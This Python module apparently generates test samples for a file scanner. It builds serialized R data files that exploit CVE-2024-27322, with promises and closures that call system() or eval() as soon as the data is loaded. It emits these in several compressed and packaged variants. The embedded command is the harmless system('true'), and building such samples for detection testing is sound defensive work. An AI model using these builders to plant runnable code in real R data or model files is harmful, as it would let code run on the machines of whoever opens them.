"""R data: promises and closures that run as soon as a value is looked at (CVE-2024-27322)."""

from __future__ import annotations

import struct
from collections.abc import Iterator

from corpus.hostile import Case, Family
from corpus.hostile.packing import PACKED
from hostile import zipped

R = Family("R data")

# R-ints.html, "Serialization Formats", and src/main/serialize.c.
NIL, GLOBAL, UNBOUND = 254, 253, 252
SYMBOL, PAIRS, CLOSURE, ENVIRONMENT, PROMISE, LANGUAGE, BUILTIN, CHARACTERS, STRINGS, LIST = (
    1,
    2,
    3,
    4,
    5,
    6,
    8,
    9,
    16,
    19,
)
BYTECODE, REAL = 21, 14
TAG = 0x400
LATENT = {"language", "builtin"}  # code as data, which something else has to evaluate


def number(value: int) -> bytes:
    """Return an integer as R writes it."""
    return struct.pack(">i", value)


def characters(text: str) -> bytes:
    """Return a CHARSXP."""
    return number(CHARACTERS | 0x40000) + number(len(text)) + text.encode()


def symbol(text: str) -> bytes:
    """Return a SYMSXP."""
    return number(SYMBOL) + characters(text)


def language(function: str = "system") -> bytes:
    """Return a call of the function with one string."""
    strings = number(STRINGS) + number(1) + characters("true")
    return number(LANGUAGE) + symbol(function) + number(PAIRS) + strings + number(NIL)


def promise(function: str = "system") -> bytes:
    """Return a promise that calls the function."""
    return number(PROMISE | TAG) + number(GLOBAL) + number(UNBOUND) + language(function)


def closure() -> bytes:
    """Return a function without arguments."""
    return number(CLOSURE) + number(GLOBAL) + number(NIL) + language()


def numbers() -> bytes:
    """Return a vector of two numbers."""
    return number(REAL) + number(2) + struct.pack(">2d", 1, 2)


def listed(*items: bytes) -> bytes:
    """Return a list."""
    return number(LIST) + number(len(items)) + b"".join(items)


def rds(item: bytes, *, version: int = 3) -> bytes:
    """Return an .rds file, not compressed."""
    encoding = number(5) + b"UTF-8" if version == 3 else b""
    return b"X\n" + number(version) + number(0x040300) + number(0x030500) + encoding + item


def workspace(item: bytes) -> bytes:
    """Return an .RData file: the item under the name `x`."""
    return b"RDX3\n" + rds(number(PAIRS | TAG) + symbol("x") + item + number(NIL))


def cases() -> Iterator[Case]:
    items = {
        "promise": promise(),
        "promise in a list": listed(numbers(), promise()),
        "promise behind numbers": listed(numbers(), listed(numbers(), promise("eval"))),
        "closure": closure(),
        "closure in a list": listed(numbers(), closure()),
        "language": language(),
        "environment": number(ENVIRONMENT) + number(0) + number(GLOBAL) + number(PAIRS | TAG) + symbol("x") + promise()
        + number(NIL) + number(NIL) + number(NIL),
        "builtin": number(BUILTIN) + number(6) + b"system",
        "promise in an attribute": number(REAL | 0x200) + numbers()[4:] + number(PAIRS | TAG) + symbol("names")
        + promise() + number(NIL),
    }  # fmt: skip
    for name, item in items.items():
        yield R.case(
            name, "model.rds", PACKED["gz"](rds(item)), "runs R code once the value is looked at", held=name in LATENT
        )
    made = {
        "plain.rds": rds(promise()),
        "version2.rds": rds(promise(), version=2),
        "bzip2.rds": PACKED["bz2"](rds(promise())),
        "xz.rds": PACKED["xz"](rds(promise())),
        "model.RData": PACKED["gz"](workspace(promise())),
        "plain.rda": workspace(closure()),
        "model.bin": rds(promise()),
        "model.zip": zipped({"model.rds": PACKED["gz"](rds(promise()))}),
    }
    for name, data in made.items():
        yield R.case(name, name, data, "runs R code once the value is looked at")
    yield R.case("text form", "model.rds", b"A\n3\n262912\n197888\n5\nUTF-8\n6\n", "runs R code", held=True)
    yield R.case("bytecode", "model.rds", rds(number(BYTECODE) + bytes(16)), "runs R bytecode", held=True)
    yield R.case("two values", "model.rds", rds(numbers()) + rds(promise()), "hides a value", held=True)
